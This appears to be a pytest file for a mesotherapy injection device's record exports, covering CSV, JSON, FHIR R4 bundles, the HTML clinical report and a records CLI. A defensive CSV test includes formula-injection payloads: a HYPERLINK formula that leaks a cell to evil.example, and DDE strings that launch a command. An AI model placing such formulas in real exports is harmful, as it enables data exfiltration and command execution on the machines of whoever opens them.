"""Exports: CSV/JSON rows, FHIR R4 parsed back by fhir.resources, the HTML report; and the records CLI."""

import datetime as dt
import csv
import html
import io
import json
import os
import re
import subprocess
import sys
import types
import xml.etree.ElementTree as ET
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from fhir.resources.R4B.bundle import Bundle
from fhir.resources.R4B.medicationadministration import MedicationAdministration

from mesoinject import exports
from mesoinject import program as programs
from mesoinject.exports import NothingToExport
from mesoinject.records import RecordStore
from mesoprotocol import spec

from test_program import PROGRAMS

IDENT = types.SimpleNamespace(serial="SIM-0042", board="sim", firmware="0.1.0")
SVG = "{http://www.w3.org/2000/svg}"


def delivery(record_id, point, delivered, kind=spec.KIND_POINT, flags=0, programmed=30000):
    return dict(record_id=record_id, session=7, point=point, kind=kind, flags=flags, programmed_nl=programmed,
                delivered_nl=delivered, depth_um=3000, time_ms=1000 * record_id)


@pytest.fixture
def treated(store):
    """A session: a prime, 4 points (one partial), an occlusion, a note and an adverse event."""
    prog = programs.load(PROGRAMS / "point-by-point.toml")
    sid = store.begin_session(IDENT, prog, patient_ref="P-17", operator="dr x", device_session=7, drug_lot="L2301")
    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 10000, kind=spec.KIND_PRIME, programmed=10000))
    for i, nl in enumerate((29990, 30010, 30000)):
        store.add_delivery(sid, "SIM-0042", delivery(i + 2, i, nl))
    store.add_delivery(sid, "SIM-0042", delivery(5, 3, 12000, flags=spec.FLAG_PARTIAL | spec.FLAG_FAULT))
    store.add_alarm(sid, "SIM-0042", dict(code=spec.ALARM_OCCLUSION, detail=412, time_ms=5000))
    store.add_note(sid, "papules <L4-L5> & as planned", author="dr x")
    store.add_note(sid, "vasovagal reaction, recovered in 5 min", kind="adverse-event", author="nurse y")
    store.end_session(sid, "fault")
    return sid


@pytest.mark.req("SR-061")
def test_csv_and_json_have_one_row_per_delivery(store, treated):
    rows = list(csv.DictReader(io.StringIO(store.export("csv", treated))))
    assert [r["kind"] for r in rows] == ["prime", "point", "point", "point", "point"]
    assert rows[4]["partial"] == "1" and rows[4]["drug_lot"] == "L2301" and rows[4]["device_session"] == "7"
    assert json.loads(store.export("json")) == [dict(r, **{k: int(r[k]) for k in r if r[k].isdigit()})
                                                for r in rows]


@pytest.mark.req("SR-061")
def test_fhir_medication_administration_parses_back_with_the_library(store, treated):
    text = store.export("fhir", treated)
    ma = MedicationAdministration.model_validate_json(text)
    assert ma.status == "stopped" and "OCCLUSION" in ma.statusReason[0].text
    assert ma.subject.identifier.value == "P-17"
    assert ma.performer[0].actor.display == "dr x"
    medication = next(r for r in ma.contained if r.id == "medication")
    assert (medication.code.text, medication.batch.lotNumber) == ("lidocaine 1%", "L2301")
    assert ma.medicationReference.reference == "#medication"
    device = next(r for r in ma.contained if r.id == "device")
    assert (device.serialNumber, device.version[0].value) == ("SIM-0042", "0.1.0")
    assert ma.device[0].reference == "#device"
    assert ma.effectivePeriod.start is not None and ma.effectivePeriod.end is not None
    dosage = ma.dosage
    assert (dosage.route.coding[0].system, dosage.route.coding[0].code) == ("http://snomed.info/sct", "372464004")
    # the total: the four points, the prime not counted, exact to the nanolitre
    assert (dosage.dose.value, dosage.dose.code) == (Decimal("0.102000"), "mL")
    points = [{e.url: e for e in ext.extension} for ext in dosage.extension]
    assert [p["point"].valueInteger for p in points] == [0, 1, 2, 3]
    assert [p["delivered"].valueQuantity.value for p in points] == [Decimal(v) for v in ("29.99", "30.01", "30", "12")]
    assert [p["partial"].valueBoolean for p in points] == [False, False, False, True]
    assert "#3 12.000/30.000 partial" in dosage.text
    notes = [n.text for n in ma.note]
    assert "Adverse event: vasovagal reaction, recovered in 5 min" in notes
    assert any("OCCLUSION" in n for n in notes) and any(n.startswith("Primed 10.000 uL") for n in notes)


@pytest.mark.req("SR-061")
@pytest.mark.parametrize("outcome, status", [("complete", "completed"), ("aborted", "stopped"), (None, "in-progress")])
def test_fhir_status_follows_the_outcome(store, outcome, status):
    prog = programs.load(PROGRAMS / "test-dose.toml")
    sid = store.begin_session(IDENT, prog, patient_ref=None, operator=None)
    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 10000, kind=spec.KIND_TEST_DOSE, programmed=10000))
    if outcome:
        store.end_session(sid, outcome)
    ma = MedicationAdministration.model_validate_json(store.export("fhir", sid))
    assert ma.status == status
    assert ma.subject.display == "patient reference not recorded" and ma.performer is None


def test_fhir_of_a_session_that_gave_nothing_is_not_done(store):
    sid = store.begin_session(IDENT, programs.load(PROGRAMS / "test-dose.toml"), patient_ref="P-2", operator=None)
    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 10000, kind=spec.KIND_PRIME))
    store.end_session(sid, "aborted")
    ma = MedicationAdministration.model_validate_json(store.export("fhir", sid))
    assert ma.status == "not-done" and ma.dosage.dose.value == 0 and "Nothing delivered" in ma.dosage.text


def test_fhir_of_a_synced_session_says_its_status_is_unknown(store):
    sid = store.session_for_device("SIM-0042", 99, board="pico", firmware="0.2.0")
    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 30000))
    ma = MedicationAdministration.model_validate_json(store.export("fhir", sid))
    assert ma.status == "unknown" and "synced" in ma.dosage.text
    assert ma.identifier[1].value == "SIM-0042:99"


def test_fhir_of_every_session_is_a_bundle(store, treated):
    store.session_for_device("SIM-0042", 99)
    bundle = Bundle.model_validate_json(store.export("fhir"))
    assert bundle.type == "collection"
    assert [e.resource.id for e in bundle.entry] == [f"mesoinject-session-{i}" for i in (treated, treated + 1)]


@pytest.mark.req("SR-061")
def test_html_report_of_a_session(store, treated):
    page = store.export("html", treated)
    for text in ("P-17", "dr x", "lidocaine 1%, lot L2301", "SIM-0042", "firmware 0.1.0", "BD 1 mL, 30G 4 mm",
                 "Lumbar point-by-point", "4 of 20 planned, 1 partial", "<strong>102.000 µL</strong> of 120.000 µL",
                 "Program total</th><td>600.000 µL", "10.000 µL in 1 prime(s)", "OCCLUSION",
                 "Adverse event: vasovagal reaction"):
        assert text in page, text
    assert "papules &lt;L4-L5&gt; &amp; as planned" in page  # notes are escaped, never markup
    assert "<script" not in page
    # the plot: one bar per point given (primes not plotted), height in proportion to the volume
    svg = ET.fromstring(page[page.index("<svg"):page.index("</svg>") + 6])
    bars = svg.findall(f"{SVG}rect")
    assert len(bars) == 4 and "partial" not in bars[0].find(f"{SVG}title").text
    heights = [float(b.get("height")) for b in bars]
    assert heights[3] / heights[2] == pytest.approx(12000 / 30000, rel=1e-3)
    assert [b.get("fill") for b in bars].count("#e08a1e") == 1  # the partial point stands out


def test_html_report_of_a_session_that_gave_nothing_says_so(store):
    sid = store.begin_session(IDENT, programs.load(PROGRAMS / "test-dose.toml"), patient_ref="P-2", operator=None)
    store.end_session(sid, "aborted")
    page = store.export("html", sid)
    assert "No dose was delivered to the patient in this session." in page and "<svg" not in page


def test_nothing_to_export_says_what_to_do(store):
    for fmt in ("csv", "json", "fhir", "html"):
        with pytest.raises(NothingToExport, match="holds no sessions yet: run a program"):
            store.export(fmt)
    sid = store.begin_session(IDENT, programs.load(PROGRAMS / "test-dose.toml"), patient_ref=None, operator=None)
    for fmt in ("csv", "json", "fhir", "html"):
        with pytest.raises(NothingToExport, match=f"no session {sid + 1} .*records list"):
            store.export(fmt, sid + 1)
    with pytest.raises(NothingToExport, match=f"session {sid} has no deliveries .*sync"):
        store.export("csv", sid)
    with pytest.raises(NothingToExport, match="per session: pass --session N"):
        store.export("html")



FORMULAS = {"operator": '=HYPERLINK("http://evil.example/?"&A1,"open")', "drug": "+cmd|' /C calc'!A0",
            "drug_lot": "@SUM(1+1)*cmd|' /C calc'!A0", "patient_ref": "-2+3"}


@pytest.mark.req("SR-078")
def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(store):
    prog = programs.parse({**_POINT_TOML, "drug": FORMULAS["drug"]})
    sid = store.begin_session(IDENT, prog, patient_ref=FORMULAS["patient_ref"], operator=FORMULAS["operator"],
                              device_session=7, drug_lot=FORMULAS["drug_lot"])
    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 29990))
    row = next(csv.DictReader(io.StringIO(store.export("csv", sid))))
    assert {k: row[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert (row["delivered_nl"], row["programmed_nl"], row["depth_um"]) == ("29990", "30000", "3000")
    assert json.loads(store.export("json", sid))[0]["operator"] == FORMULAS["operator"]  # not a spreadsheet


_POINT_TOML = {"name": "p", "technique": "point-by-point", "drug": "d", "syringe": "BD 1 mL",
               "needle": {"gauge": 30, "length": "4 mm"}, "volume_per_point": "30 uL", "depth": "3 mm", "points": 3}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.req("SR-078")
@settings(max_examples=200, deadline=None)
@given(texts=st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n\"',;a1 ") | st.characters(), max_size=12),
                      min_size=7, max_size=7),
       numbers=st.lists(st.integers(-2**40, 2**40), min_size=9, max_size=9))
def test_no_csv_cell_starts_a_formula_and_every_number_reads_back(texts, numbers):
    text_keys = ("device_serial", "kind", "received_at", "drug", "patient_ref", "operator", "drug_lot")
    number_keys = [k for k in exports.EXPORT_COLUMNS if k not in text_keys]
    row = {**dict(zip(text_keys, texts)), **dict(zip(number_keys, numbers))}
    fake = types.SimpleNamespace(session=lambda sid: {"id": 1}, sessions=lambda: [{"id": 1}],
                                 deliveries=lambda sid: [row], where="test")
    back = next(csv.DictReader(io.StringIO(exports.export(fake, "csv", 1), newline="")))
    for key in number_keys:
        assert back[key] == str(row[key])  # -5 stays -5: only text is neutralised
    for key in text_keys:
        assert not back[key].startswith(DANGEROUS)
        assert back[key] == ("'" + row[key] if row[key].startswith(DANGEROUS) else row[key])

# --- the records CLI ---

def cli(*args):
    return subprocess.run([sys.executable, "-m", "mesoinject.cli", "records", *args], capture_output=True, text=True,
                          timeout=120, env=os.environ)


@pytest.fixture
def db_with_session(db, treated):
    return str(db)


def test_cli_note_then_html_and_fhir_files(db_with_session, tmp_path):
    db = db_with_session
    r = cli("note", "--db", db, "--session", "1", "redness at point 3", "--adverse-event", "--author", "dr z")
    assert r.returncode == 0, r.stderr
    assert "adverse event added to session 1" in r.stdout
    r = cli("export", "--db", db, "--format", "html", "--session", "1", "--out", str(tmp_path / "report.html"))
    assert r.returncode == 0, r.stderr
    assert "Adverse event: redness at point 3" in (tmp_path / "report.html").read_text()
    r = cli("export", "--db", db, "--format", "fhir", "--session", "1", "-o", str(tmp_path / "ma.json"))
    assert r.returncode == 0, r.stderr
    assert MedicationAdministration.model_validate_json((tmp_path / "ma.json").read_text()).status == "stopped"
    r = cli("list", "--db", db)
    assert r.returncode == 0 and "lot L2301" in r.stdout and "2 adverse event(s)" in r.stdout


def test_cli_export_of_nothing_exits_2_and_writes_no_file(tmp_path):
    db = tmp_path / "empty.db"
    RecordStore(db).close()
    out = tmp_path / "out.csv"
    r = cli("export", "--db", str(db), "--out", str(out))
    assert r.returncode == 2 and "holds no sessions yet" in r.stderr and not out.exists()
    sid = RecordStore(db).begin_session(IDENT, programs.load(PROGRAMS / "test-dose.toml"), patient_ref=None,
                                        operator=None)
    r = cli("export", "--db", str(db), "--format", "fhir", "--session", "9", "--out", str(out))
    assert r.returncode == 2 and "no session 9" in r.stderr and not out.exists()
    r = cli("note", "--db", str(db), "--session", "9", "hello")
    assert r.returncode == 2 and "no session 9" in r.stderr
    r = cli("export", "--db", str(db), "--format", "html", "--session", str(sid), "--out", str(out))
    assert r.returncode == 0 and "delivered nothing to the patient" in r.stderr and out.exists()


def test_cli_bad_database_is_one_line_and_exit_2(tmp_path):
    bad = tmp_path / "records.db"
    bad.write_bytes(b"this is a spreadsheet, not a database" * 200)
    r = cli("list", "--db", str(bad))
    assert r.returncode == 2
    assert r.stderr.count("\n") == 1 and r.stderr.startswith("error: ") and "not a SQLite database" in r.stderr
    assert "Traceback" not in r.stderr


# --- a report a clinic reads (issue 16) ---

def test_the_report_numbers_points_from_1_in_local_time_and_names_how_it_ended(store, treated):
    store.add_alarm(treated, "SIM-0042", dict(code=spec.ALARM_RESET, detail=spec.RESET_NAMES.index("POWER_ON"),
                                              time_ms=10))
    page = store.export("html", treated)
    table = page[page.index("<h2>Points</h2>"):]
    assert [int(n) for n in re.findall(r'<tr[^>]*><td class="n">(\d+)</td><td>point', table)] == [1, 2, 3, 4]
    assert "stopped on OCCLUSION" in page  # the words, not FAULT
    zone = dt.datetime.now().astimezone().strftime("%Z")
    assert f" {zone} (UTC" in page and " UTC<" not in page
    alarms_table = page[page.index("<h2>Device alarms</h2>"):]
    assert "OCCLUSION" in alarms_table and "RESET" not in alarms_table  # switching on is no alarm of the session
    assert "mesoinject " not in page.split("Generated")[0]  # no command line in a clinical document
    assert " uL" not in page and "µL" in page


def test_the_remaining_points_given_after_an_alarm_go_on_numbering(store):
    prog = programs.load(PROGRAMS / "point-by-point.toml")
    sid = store.begin_session(IDENT, prog, patient_ref="P-17", operator="dr x", device_session=7)
    for rid, point, kind in ((1, 0, spec.KIND_PRIME), (2, 0, spec.KIND_POINT), (3, 1, spec.KIND_POINT),
                             (4, 0, spec.KIND_PRIME), (5, 0, spec.KIND_POINT), (6, 1, spec.KIND_POINT)):
        store.add_delivery(sid, "SIM-0042", delivery(rid, point, 30000, kind=kind))
    store.end_session(sid, "complete", "complete")
    rows = list(csv.DictReader(io.StringIO(store.export("csv", sid))))
    assert [(r["kind"], r["number"], r["counted"]) for r in rows] == [
        ("prime", "", "no"), ("point", "1", "yes"), ("point", "2", "yes"),
        ("prime", "", "no"), ("point", "3", "yes"), ("point", "4", "yes")]
    assert {r["outcome"] for r in rows} == {"complete"} and rows[1]["delivered_ul"] == "30.000"


def test_a_nappage_report_counts_shots(store):
    prog = programs.load(PROGRAMS / "nappage.toml")
    sid = store.begin_session(IDENT, prog, patient_ref="P-3", operator="dr x", device_session=8)
    for i in range(3):
        store.add_delivery(sid, "SIM-0042", dict(delivery(i + 1, i, 2000, kind=spec.KIND_SHOT, programmed=2000),
                                                 session=8))
    store.end_session(sid, "complete")
    page = store.export("html", sid)
    assert "Shots given</th><td>3 of" in page and "Points given" not in page


# --- a session that ran a treatment plan: where each point went ---

@pytest.fixture
def planned(store):
    """A two-step plan (forehead: SNOMED CT coded; periorbital: none fits), a prime and 3 points."""
    from mesoinject import plan as plans

    plan = plans.parse({
        "name": "Face", "drug": "HA", "syringe": "BD 1 mL", "needle": {"gauge": 32, "length": "4 mm"},
        "steps": [
            {"zone": "forehead", "technique": "point-by-point", "volume_per_point": "20 uL", "points": 2, "depth": "1 mm"},
            {"zone": "periorbital", "technique": "point-by-point", "volume_per_point": "10 uL", "points": 1,
             "depth": "1 mm"},
        ]})
    sid = store.begin_session(IDENT, plan.steps[0].program, patient_ref="P-5", operator="dr x", device_session=7,
                              plan=plan)
    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 10000, kind=spec.KIND_PRIME, programmed=10000))
    store.add_delivery(sid, "SIM-0042", delivery(2, 0, 20010, programmed=20000), plan_step=1, zone="forehead")
    store.add_delivery(sid, "SIM-0042", delivery(3, 1, 19990, programmed=20000), plan_step=1, zone="forehead")
    store.add_delivery(sid, "SIM-0042", delivery(4, 0, 10000, programmed=10000), plan_step=2, zone="periorbital")
    store.add_note(sid, "mild redness", kind="adverse-event", author="dr x")
    store.end_session(sid, "complete")
    return sid


@pytest.mark.req("SR-147")
def test_csv_and_json_carry_plan_step_zone_and_site_beside_the_wire_units(store, planned):
    rows = list(csv.DictReader(io.StringIO(store.export("csv", planned))))
    assert [(r["kind"], r["plan_step"], r["zone"], r["zone_name"], r["site_snomed"]) for r in rows] == [
        ("prime", "", "", "", ""),
        ("point", "1", "forehead", "Forehead", "52795006"), ("point", "1", "forehead", "Forehead", "52795006"),
        ("point", "2", "periorbital", "Periorbital (crow's feet)", "")]
    assert (rows[1]["delivered_nl"], rows[1]["delivered_ul"], rows[1]["depth_um"], rows[1]["depth_mm"]) == \
        ("20010", "20.010", "3000", "3.00")
    assert [r["zone"] for r in json.loads(store.export("json", planned))] == ["", "forehead", "forehead", "periorbital"]


@pytest.mark.req("SR-150")
def test_fhir_has_one_administration_per_plan_step_with_its_body_site(store, planned):
    bundle = Bundle.model_validate_json(store.export("fhir", planned))
    steps = [MedicationAdministration.model_validate(e.resource.model_dump()) for e in bundle.entry]
    assert [ma.id for ma in steps] == [f"mesoinject-session-{planned}-step-1", f"mesoinject-session-{planned}-step-2"]
    forehead, periorbital = (ma.dosage for ma in steps)
    assert [(c.system, c.code) for c in forehead.site.coding] == [("http://snomed.info/sct", "52795006")]
    assert periorbital.site.coding is None and periorbital.site.text == "Periorbital (crow's feet)"  # no guessed code
    assert (forehead.dose.value, periorbital.dose.value) == (Decimal("0.04"), Decimal("0.01"))
    assert [ma.status for ma in steps] == ["completed", "completed"]
    notes = [n.text for ma in steps for n in (ma.note or [])]
    assert sum("Adverse event: mild redness" in n for n in notes) == 1  # the session's note once, not per zone
    # a point's own extension names its site too
    point = forehead.extension[0]
    assert any(x.url == "site" and x.valueCodeableConcept.coding[0].code == "52795006" for x in point.extension)
    # the all-sessions bundle holds the same two
    assert [e.resource.id for e in Bundle.model_validate_json(store.export("fhir")).entry] == [ma.id for ma in steps]


# --- the clinical report: clinic, language, per-zone table and map, signature (issue 16) ---

def test_every_report_message_exists_in_every_language():
    from mesoinject.exports import messages

    assert set(messages.MESSAGES["fr"]) == set(messages.MESSAGES["en"])
    assert all(text.strip() for lang in messages.MESSAGES.values() for text in lang.values())


@pytest.mark.req("SR-151")
def test_a_plan_report_in_french_with_the_clinic_per_zone_table_map_and_signature(store, planned, tmp_path,
                                                                                  monkeypatch):
    from mesoinject import clinic

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    (tmp_path / "mesoinject").mkdir()
    clinic.path().write_text('clinic = "Cabinet <Lilas>"\npractitioner = "Dr Claire Martin"\n'
                             'registration = "RPPS 10001234567"\nlanguage = "fr"\n', encoding="utf-8")
    page = store.export("html", planned)
    assert '<html lang="fr">' in page and "Compte rendu de séance de mésothérapie" in page
    assert "Cabinet &lt;Lilas&gt;" in page and "Praticien: Dr Claire Martin" in page and "RPPS 10001234567" in page
    assert "issue <strong>terminée</strong>" in page
    assert "Événement indésirable: mild redness" in page and "Signature du praticien" in page
    # the per-zone table: what each zone received is the stored records' sum
    table = page[page.index('id="per-zone"'):page.index("</table>", page.index('id="per-zone"'))]
    rows = re.findall(r'<tr data-zone="(\w+)"><td class="n">(\d)</td><td>([^<]+)</td>.*?<td class="n">([\d.]+)</td></tr>',
                      table)
    rows = [(zone, step, html.unescape(name), total) for zone, step, name, total in rows]
    assert rows == [("forehead", "1", "Front", "40.000"), ("periorbital", "2", "Région périorbitaire (pattes-d'oie)",
                                                         "10.000")]
    # the map: every zone drawn, the two treated ones filled and labelled with their totals
    start = page.index("<svg", page.index('<div class="map">'))
    svg = ET.fromstring(page[start:page.index("</svg>", start) + 6])
    drawn = {g.get("data-zone"): g for g in svg.iter(f"{SVG}g") if g.get("class", "").startswith("zone")}
    assert {"forehead", "periorbital", "cheeks", "lumbar", "scalp"} <= drawn.keys()
    assert drawn["forehead"].get("fill") == drawn["periorbital"].get("fill") != drawn["cheeks"].get("fill")
    labels = {t.get("data-zone"): t.text for t in svg.iter(f"{SVG}text") if t.get("class") == "total"}
    assert labels == {"forehead": "Front: 40.000 µL", "periorbital": "Région périorbitaire (pattes-d'oie): 10.000 µL"}
    assert "<script" not in page and " uL" not in page
    # English when asked, whatever the clinic file says
    from mesoinject.exports import report
    from mesoinject.exports.common import SessionRecord

    english = report.render(SessionRecord.load(store, planned), lang="en")
    assert "Mesotherapy treatment report" in english and "Per zone" in english and "Forehead: 40.000 µL" in english


@pytest.mark.req("SR-151")
def test_a_clinic_file_with_a_typo_is_refused_naming_the_key(tmp_path):
    from mesoinject import clinic

    bad = tmp_path / "clinic.toml"
    bad.write_text('clinic = "A"\npractioner = "Dr B"\n')
    with pytest.raises(clinic.ClinicConfigError, match="'practioner' is not a clinic setting"):
        clinic.load(bad)
    bad.write_text('language = "de"\n')
    with pytest.raises(clinic.ClinicConfigError, match="language 'de' is not one of en, fr"):
        clinic.load(bad)
    assert clinic.load(tmp_path / "none.toml") == clinic.Clinic()
